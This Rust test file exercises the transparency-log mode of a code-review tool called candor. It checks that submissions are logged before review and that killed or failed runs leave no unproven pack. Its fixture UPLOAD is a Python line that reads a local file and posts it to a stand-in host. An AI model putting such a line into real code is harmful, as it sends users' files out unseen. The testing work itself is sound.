//! `--log`: a submission is in the log before a byte of it is looked into, its signature before there is a pack, and
//! whatever ends the review in between leaves what was logged and no pack that lacks its proofs.

use std::fs::{self, File};
use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::thread;
use std::time::Duration;

use candor::attest::edit::Auditor;
use candor::attest::layout;
use candor::attest::trust::{LogRequired, TrustedLog};
use candor::attest::{PrivateKey, Times, Trust};
use candor::base::Digest;
use candor::review::{Admission, Event, Order, ReviewError, Stage, Worker, review_by};
use candor::tlog::{Leaf, Log, Mirror, evidence};
use tempfile::TempDir;

use super::intake_support::write;

const UPLOAD: &str = "import requests\nrequests.post('https://a.example', data=open('b').read())\n";

/// A home with a key, a log and a submission.
struct House {
    home: TempDir,
    log: Log,
}

impl House {
    fn new() -> Self {
        let home = tempfile::tempdir().expect("a scratch folder");
        write(home.path(), "in/product/agent.py", UPLOAD.as_bytes());
        write(home.path(), "in/other/agent.py", b"x = 1\n");
        PrivateKey::from_secret(&[7; 32]).save(&home.path().join("auditor.pem")).expect("a key");
        let log = Log::init(&home.path().join("log"), "log.example.org/candor", None).expect("a log");
        Self { home, log }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    fn candor(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", self.home.path()).current_dir(self.home.path()).stdin(Stdio::null()).args(args);
        command
    }

    fn review(&self, more: &[&str]) -> Command {
        self.candor(&[&["review", "in/product", "--key=auditor.pem", "--log=log"], more].concat())
    }

    fn run(&self, args: &[&str]) -> Output {
        self.candor(args).output().expect("it runs")
    }

    /// Every leaf of the log, after all of it was checked.
    fn leaves(&self) -> Vec<Leaf> {
        let mirror = Mirror::at(&self.path("log"));
        let view = mirror.view(&mirror.checkpoint().expect("a checkpoint")).expect("a view");
        let mut leaves = Vec::new();
        view.audit(|_, entry| leaves.push(Leaf::parse(entry).expect("a leaf"))).expect("a sound log");
        leaves
    }

    /// Number of leaves, as the log's memory has it.
    fn size(&self) -> u64 {
        let head = fs::read_to_string(self.path("log/head")).expect("a head");
        head.lines().nth(1).and_then(|size| size.parse().ok()).expect("a number")
    }

    /// Trust in the key, and in the log that must have had the submission before the signature.
    fn trust(&self) -> Trust {
        let key = PrivateKey::from_secret(&[7; 32]).public();
        let auditor = Auditor { key, owner: "Ada".to_owned(), organisation: "Audit House".to_owned() };
        let log = TrustedLog { key: self.log.key().to_string(), witnesses: Vec::new(), threshold: 0 };
        let trust = Trust::init(&[auditor]).and_then(|trust| trust.add_log(log));
        trust.and_then(|trust| trust.require_log(Some(LogRequired::Submission))).expect("a trust file")
    }

    /// Whether a pack proves what `trust` demands.
    fn proves(&self, pack: &str) -> bool {
        evidence::verify(&self.path(pack), &self.trust(), Times::at("2026-01-31T12:00:00Z")).expect("readable").accepted
    }

    fn order(&self, submission: &str) -> Order {
        Order { submission: self.path(submission), scratch: Some(self.home.path().to_owned()), jobs: 1, ..Order::default() }
    }

    /// The log's lock, as another process holds it that appends.
    fn locked(&self) -> File {
        let lock = File::options().write(true).open(self.path("log/lock")).expect("the log was written to before");
        lock.lock().expect("to be had");
        lock
    }
}

fn manifest_of(pack: &Path) -> Digest {
    Digest::of(&fs::read(pack.join(layout::MANIFEST)).expect("a manifest"))
}

fn err(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_submission_is_logged_before_its_review_and_the_signature_after_it() {
    let house = House::new();
    let output = house.review(&[]).output().expect("it runs");
    assert_eq!(output.status.code(), Some(1), "{}", err(&output));
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(said.contains("leaves 0 and 1 of 2, log.example.org/candor"), "{said}");
    let manifest = manifest_of(&house.path("product.candor"));
    let leaves = house.leaves();
    assert_eq!((leaves.len(), &leaves[0]), (2, &Leaf::Submission { manifest, received: None }));
    assert!(matches!(leaves[1], Leaf::Signature { .. }));
    assert!(house.proves("product.candor"));

    // Once more: it came in once more, and the older proofs are not taken for the newer ones.
    house.review(&[]).output().expect("it runs");
    assert_eq!(house.leaves().len(), 4);
    assert!(house.proves("product.candor"));
    assert_eq!(house.leaves()[2], leaves[0]);

    // A file as received is in the leaf by its digest, and the log's key may lie elsewhere.
    super::intake_support::run(&house.path("in"), "tar", &["-cf", "product.tar", "product"]);
    fs::rename(house.path("log/log.pem"), house.path("log.pem")).expect("ours");
    let args = ["review", "in/product.tar", "--key=auditor.pem", "--log=log", "--log-key=log.pem", "--quiet"];
    assert_eq!(house.run(&args).status.code(), Some(1));
    let received = Some(Digest::of(&fs::read(house.path("in/product.tar")).expect("ours")));
    let manifest = manifest_of(&house.path("product.tar.candor"));
    assert_eq!(house.leaves()[4], Leaf::Submission { manifest, received });
    assert!(house.proves("product.tar.candor"));
}

/// Waits for something that another process does.
#[track_caller]
fn until(what: &str, done: impl Fn() -> bool) {
    for _ in 0..60_000 {
        if done() {
            return;
        }
        thread::sleep(Duration::from_millis(2));
    }
    panic!("it never came to this: {what}");
}

/// Not a byte of the submission is looked into before the log has it.
#[test]
fn the_worker_waits_for_the_log() {
    let house = House::new();
    let worker = Worker { program: env!("CARGO_BIN_EXE_candor").into(), ..Worker::this_program().expect("a program") };
    let mut seen = Vec::new();
    let watch = |event| {
        if let Event::Progress(progress) = event {
            seen.push((progress.stage, house.leaves().len()));
        }
    };
    let mut admission = Admission::logged(&house.log);
    review_by(&worker, &house.order("in/product"), &mut admission, watch).expect("a review");
    assert!(seen.iter().all(|(stage, leaves)| *leaves == usize::from(*stage != Stage::Intake)), "{seen:?}");
    assert!(seen.iter().any(|(stage, _)| *stage == Stage::Intake) && seen.iter().any(|(stage, _)| *stage == Stage::Files));
}

/// Killed after the review and before its signature is logged: the submission stays in the log, and there is no pack.
#[test]
fn a_review_that_is_killed_leaves_the_submission_in_the_log() {
    let house = House::new();
    let mut child = house.review(&[]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("started");
    until("the submission is logged", || house.size() == 1);
    // It is reviewing now, or waits for this very lock.
    let lock = house.locked();
    child.kill().expect("ours");
    child.wait().expect("ours");
    drop(lock);
    assert!(matches!(house.leaves()[..], [Leaf::Submission { .. }]));
    assert!(!house.path("product.candor").exists());
    house.review(&[]).output().expect("it runs");
    assert_eq!(house.leaves().len(), 3);
    assert!(house.proves("product.candor"));
}

/// The log goes away between intake and signature: an error, and no pack without proofs.
#[test]
fn a_log_that_goes_offline_during_a_review_leaves_no_pack() {
    let house = House::new();
    house.review(&[]).output().expect("it runs");
    let before = fs::read(house.path("product.candor").join(layout::ATTESTATION)).expect("a pack");
    write(&house.path("in"), "product/more.py", b"y = 2\n");
    let child = house.review(&[]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("started");
    until("the submission is logged", || house.size() == 3);
    let lock = house.locked();
    fs::rename(house.path("log"), house.path("away")).expect("ours");
    drop(lock);
    let output = child.wait_with_output().expect("ours");
    assert_eq!((output.status.code(), output.stdout.is_empty()), (Some(2), true));
    let told = err(&output);
    assert!(told.contains("no pack was written") && told.contains("help: see that the directory is there"), "{told}");
    assert_eq!(fs::read(house.path("product.candor").join(layout::ATTESTATION)).expect("the older pack"), before);
    fs::rename(house.path("away"), house.path("log")).expect("ours");
    assert_eq!(house.leaves().len(), 3);
}

#[test]
fn a_log_that_cannot_be_used_is_told_before_anything_is_read() {
    let house = House::new();
    let leaf = Leaf::Submission { manifest: Digest::of(b"a"), received: None }.to_bytes();
    let copy = |to: &str| super::intake_support::run(house.home.path(), "cp", &["-r", "log", to]);
    // Older copies: of the whole, of the head alone, and of what lies under it.
    for name in ["forked", "in/product/log", "keyless", "unwritable", "damaged"] {
        copy(name);
    }
    let head = fs::read(house.path("log/head")).expect("ours");
    house.log.append(&[leaf]).expect("appended");
    copy("forked2");
    fs::write(house.path("forked2/head"), head).expect("ours");
    copy("damaged2");
    fs::write(house.path("damaged2/public/tile/0/000.p/1"), [0; 32]).expect("ours");
    fs::create_dir(house.path("empty")).expect("ours");
    fs::remove_file(house.path("keyless/log.pem")).expect("ours");
    fs::remove_file(house.path("unwritable/lock")).expect("ours");
    fs::create_dir(house.path("unwritable/lock")).expect("ours");
    PrivateKey::from_secret(&[8; 32]).save(&house.path("other.pem")).expect("a key");
    PrivateKey::from_secret(&[8; 32]).save_encrypted(&house.path("locked.pem"), b"pass word").expect("a key");
    Log::init(&house.path("same"), "log.example.org/same", Some(PrivateKey::from_secret(&[7; 32]))).expect("a log");
    for (args, why) in [
        (&["--log=nowhere"][..], "nowhere holds no log"),
        (&["--log=empty"], "empty holds no log"),
        (&["--log=keyless"], "cannot read keyless/log.pem"),
        (&["--log=log", "--log-key=other.pem"], "the private key is not the one of log"),
        (&["--log=log", "--log-key=locked.pem"], "help: a log signs unattended"),
        (&["--log=same", "--log-key=auditor.pem"], "the log has the key that signs the report"),
        (&["--log=unwritable"], "the log unwritable takes nothing in: cannot open unwritable/lock"),
        (&["--log=forked2"], "going on would fork the log"),
        (&["--log=damaged2"], "the log damaged2 takes nothing in: the log is damaged"),
        (&["--log=in/product/log"], "the log lies inside in/product"),
        (&["--log-key=other.pem"], "--log <DIR>"),
    ] {
        for command in [&["review", "in/product"][..], &["batch", "in", "--output=out"]] {
            let output = house.run(&[command, &["--key=auditor.pem", "--store=store"], args].concat());
            let told = err(&output);
            assert_eq!((output.status.code(), output.stdout.is_empty()), (Some(2), true), "{command:?} {args:?}: {told}");
            assert!(told.contains(why) && (told.contains("help: ") || told.contains("--help")), "{command:?} {args:?}: {told}");
            assert!(!house.path("store").exists() && !house.path("out/ledger.sqlite").exists(), "{command:?} {args:?}");
        }
    }
    assert!(!house.path("product.candor").exists());
    assert_eq!(house.leaves().len(), 1);
}

/// A frame as shell words: its length and its bytes.
fn frame(bytes: &[u8]) -> String {
    let length = (bytes.len() as u32).to_le_bytes();
    let octal: String = length.iter().chain(bytes).map(|byte| format!("\\{byte:03o}")).collect();
    format!("printf '{octal}'")
}

fn hello() -> String {
    let version = env!("CARGO_PKG_VERSION");
    frame(&[&[0u8, 8, version.len() as u8], version.as_bytes(), &[0]].concat())
}

fn submitted(manifest: &[u8]) -> String {
    frame(&[&[4u8, 64], Digest::of(manifest).hex().as_bytes(), &[0]].concat())
}

/// Announces a body; its bytes follow.
fn body(kind: u8, path: &Path) -> String {
    let mut length = fs::metadata(path).expect("a file").len();
    let mut varint = Vec::new();
    while length > 0x7f {
        varint.push(length as u8 | 0x80);
        length >>= 7;
    }
    varint.push(length as u8);
    format!("{}; cat '{}'", frame(&[&[5u8, kind], &varint[..]].concat()), path.display())
}

fn reviewed_by_shell(house: &House, admission: &mut Admission<'_>, script: String) -> Result<(), ReviewError> {
    let mut worker = Worker::this_program().expect("a program");
    worker.program = "/bin/sh".into();
    worker.arguments = vec!["-c".into(), script.into()];
    review_by(&worker, &house.order("in/product"), admission, |_| {}).map(|_| ())
}

/// Workers that were taken over, each of which tells another story.
#[test]
fn a_worker_that_tells_another_manifest_than_the_first_one_is_refused() {
    let house = House::new();
    let first = house.path("first");
    // Dies at a file, so that another one is started, which sees that it is not the first.
    let reading = frame(&[&[2, 0, 1, 64], [b'a'; 64].as_slice(), &[4], b"a.py"].concat());
    let die = format!("{}; {reading}; kill -SEGV $$", frame(&[1, 1, 0, 0, 0, 0]));
    let again = |told: &str| {
        format!("{}; if [ -e '{1}' ]; then {told}; else : >'{1}'; {2}; fi; {die}", hello(), first.display(), submitted(b"one"))
    };
    let refused = reviewed_by_shell(&house, &mut Admission::logged(&house.log), again(&submitted(b"two")));
    assert!(matches!(refused, Err(ReviewError::OtherSubmission)), "{refused:?}");
    let one = Leaf::Submission { manifest: Digest::of(b"one"), received: None };
    assert_eq!(house.leaves(), std::slice::from_ref(&one), "what was told first stays in the log, and nothing else is");

    // The same story told by all of them is logged once, until one is asked not to read: it has no story to tell.
    fs::remove_file(&first).expect("ours");
    let refused = reviewed_by_shell(&house, &mut Admission::logged(&house.log), again(&submitted(b"one")));
    assert!(matches!(refused, Err(ReviewError::OtherSubmission)), "{refused:?}");
    assert_eq!(house.leaves(), [one.clone(), one.clone()]);

    // What binds the workers of one try binds those of the next.
    let mut admission = Admission::logged(&house.log);
    let script = |manifest: &[u8]| format!("{}; {}; kill -SEGV $$", hello(), submitted(manifest));
    for manifest in [b"one", b"two"] {
        let refused = reviewed_by_shell(&house, &mut admission, script(manifest));
        assert!(matches!(refused, Err(ReviewError::OtherSubmission)), "{refused:?}");
    }
    assert_eq!(house.leaves(), [one.clone(), one.clone(), one]);
}

/// A report that is sound in itself, by a worker that let another submission be logged.
#[test]
fn a_report_of_another_manifest_than_the_one_logged_is_refused() {
    let house = House::new();
    house.run(&["review", "in/product", "--key=auditor.pem", "--no-store"]);
    let pack = house.path("product.candor");
    let bodies = format!("{}; {}", body(0, &pack.join(layout::REPORT)), body(1, &pack.join(layout::MANIFEST)));
    let script = |manifest: &[u8]| format!("{}; {}; {bodies}; {}", hello(), submitted(manifest), frame(&[6]));
    let own = fs::read(pack.join(layout::MANIFEST)).expect("a manifest");
    // The pack's report is that of the program under test, which this process is not: the rest of it is checked by name.
    let outcome = reviewed_by_shell(&house, &mut Admission::logged(&house.log), script(&own));
    assert!(outcome.is_ok(), "{outcome:?}");
    let refused = reviewed_by_shell(&house, &mut Admission::logged(&house.log), script(b"another"));
    assert!(matches!(refused, Err(ReviewError::OtherSubmission)), "{refused:?}");
    assert_eq!(house.leaves().len(), 2);
}

/// Dies wherever it looks into a file: each of the workers after it says the same, and the log hears it once.
#[cfg(all(debug_assertions, target_os = "linux"))]
#[test]
fn a_worker_that_dies_after_intake_leaves_the_submission_in_the_log_once() {
    let reviewed = |house: &House, submission: &str| {
        fs::rename(house.path("in/product"), house.path(submission)).expect("a name");
        let mut worker = Worker { program: env!("CARGO_BIN_EXE_candor").into(), ..Worker::this_program().expect("one") };
        worker.arguments = vec!["probed-worker".into()];
        let mut deaths = 0;
        let count = |event| deaths += u32::from(matches!(event, Event::Diagnostic(told) if told.code == "worker-ended"));
        let order = house.order(submission);
        let outcome = review_by(&worker, &order, &mut Admission::logged(&house.log), count);
        (outcome, deaths)
    };
    let house = House::new();
    let (outcome, deaths) = reviewed(&house, "in/probe-Solve-abort");
    let manifest = outcome.expect("a weaker report").report.source.manifest;
    assert_eq!((deaths, house.leaves()), (1, vec![Leaf::Submission { manifest, received: None }]));

    // The last of them is asked to read nothing, and says of nothing that it is submitted.
    let house = House::new();
    let (outcome, deaths) = reviewed(&house, "in/probe-Files-abort");
    assert!(matches!(outcome, Err(ReviewError::Worker(candor::review::WorkerError::Died(_)))), "{outcome:?}");
    let nothing = Leaf::Submission { manifest: Digest::of(b""), received: None };
    assert_eq!((deaths, house.leaves()), (2, vec![Leaf::Submission { manifest, received: None }, nothing]));
}

/// The endings of a batch: names of what was kept, and how many there are in all.
fn batch(house: &House, more: &[&str]) -> (Vec<String>, usize) {
    let args = [&["batch", "in", "--output=out", "--key=auditor.pem", "--json", "--jobs=2"], more].concat();
    let output = house.run(&args);
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let events: Vec<serde_json::Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let ended = |event: &serde_json::Value| ["kept", "finished", "failed"].iter().any(|name| event["event"] == *name);
    let kept = events.iter().filter(|event| event["event"] == "kept");
    let mut kept: Vec<_> = kept.map(|event| event["name"].as_str().expect("a name").to_owned()).collect();
    kept.sort();
    (kept, events.iter().filter(|event| ended(event)).count())
}

#[test]
fn a_batch_logs_each_submission_and_what_is_done_is_not_logged_again() {
    let house = House::new();
    // Done without a log is not done for one that wants it.
    assert_eq!(batch(&house, &[]), (vec![], 2));
    assert_eq!(batch(&house, &["--log=log"]), (vec![], 2));
    let leaves = house.leaves();
    assert_eq!(leaves.len(), 4);
    for name in ["product", "other"] {
        let pack = format!("out/{name}.candor");
        let manifest = manifest_of(&house.path(&pack));
        assert!(leaves.contains(&Leaf::Submission { manifest, received: None }) && house.proves(&pack));
    }
    let both = || vec!["other".to_owned(), "product".to_owned()];
    assert_eq!(batch(&house, &["--log=log"]), (both(), 2));
    assert_eq!(batch(&house, &[]), (both(), 2), "a pack with proofs is done without a log, too");
    assert_eq!(house.leaves(), leaves);

    // One pack whose proof is gone, and one more submission.
    fs::remove_file(house.path("out/other.candor").join(layout::SUBMISSION[1])).expect("ours");
    write(&house.path("in"), "third/a.py", b"z = 3\n");
    assert_eq!(batch(&house, &["--log=log"]), (vec!["product".to_owned()], 3));
    assert_eq!(house.leaves().len(), 8);
    assert!(house.proves("out/other.candor") && house.proves("out/third.candor"));

    // Another log has none of it.
    Log::init(&house.path("second"), "log.example.org/second", None).expect("a log");
    assert_eq!(batch(&house, &["--log=second"]), (vec![], 3));
    assert_eq!(house.leaves().len(), 8);
}

/// Killed after so many events, again and again: at no moment is there a pack without its proofs.
#[test]
fn a_batch_that_is_killed_leaves_no_pack_without_proofs() {
    let house = House::new();
    for number in 0..4 {
        write(&house.path("in"), &format!("small{number}/a.py"), format!("{UPLOAD}\nx = {number}\n").as_bytes());
    }
    let packs = || -> Vec<String> {
        let entries = fs::read_dir(house.path("out")).into_iter().flatten();
        let names = entries.map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"));
        names.filter(|name| name.ends_with(".candor") && !name.starts_with('.')).collect()
    };
    let mut kills = 0;
    for count in (1..40).step_by(6) {
        let args = ["batch", "in", "--output=out", "--key=auditor.pem", "--json", "--jobs=2", "--log=log"];
        let mut child = house.candor(&args).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("started");
        let lines = BufReader::new(child.stdout.take().expect("a pipe")).lines().take(count);
        let under_way = lines.map_while(Result::ok).all(|line| !line.contains("\"event\":\"done\""));
        child.kill().expect("ours");
        child.wait().expect("ours");
        kills += u32::from(under_way);
        for pack in packs() {
            assert!(house.proves(&format!("out/{pack}")), "{pack} after {count} events");
        }
    }
    assert!(kills >= 3, "most of these were under way");
    batch(&house, &["--log=log"]);
    assert_eq!(packs().len(), 6);
    // However often it was begun, each pack has its own pair of leaves, and none of them is from elsewhere.
    let leaves = house.leaves();
    for pack in packs() {
        let manifest = manifest_of(&house.path(&format!("out/{pack}")));
        assert!(leaves.contains(&Leaf::Submission { manifest, received: None }) && house.proves(&format!("out/{pack}")));
    }
    let (kept, _) = batch(&house, &["--log=log"]);
    assert_eq!((kept.len(), house.leaves()), (6, leaves));
}

/// The log fails under a batch: nothing more is begun, and the next run goes on.
#[test]
fn a_batch_ends_with_its_log() {
    let house = House::new();
    let args = ["batch", "in", "--output=out", "--key=auditor.pem", "--json", "--jobs=1", "--log=log"];
    let child = house.candor(&args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("started");
    until("a submission is logged", || house.size() == 1);
    let lock = house.locked();
    fs::rename(house.path("log"), house.path("away")).expect("ours");
    drop(lock);
    let output = child.wait_with_output().expect("ours");
    let told = err(&output);
    assert_eq!(output.status.code(), Some(2), "{told}");
    assert!(told.contains("0 of 2 submissions are done, then: the log did not take a signature in"), "{told}");
    fs::rename(house.path("away"), house.path("log")).expect("ours");
    assert_eq!(batch(&house, &["--log=log"]), (vec![], 2));
    assert_eq!(house.leaves().len(), 5, "the submission of the first run, and both with their signatures");
}
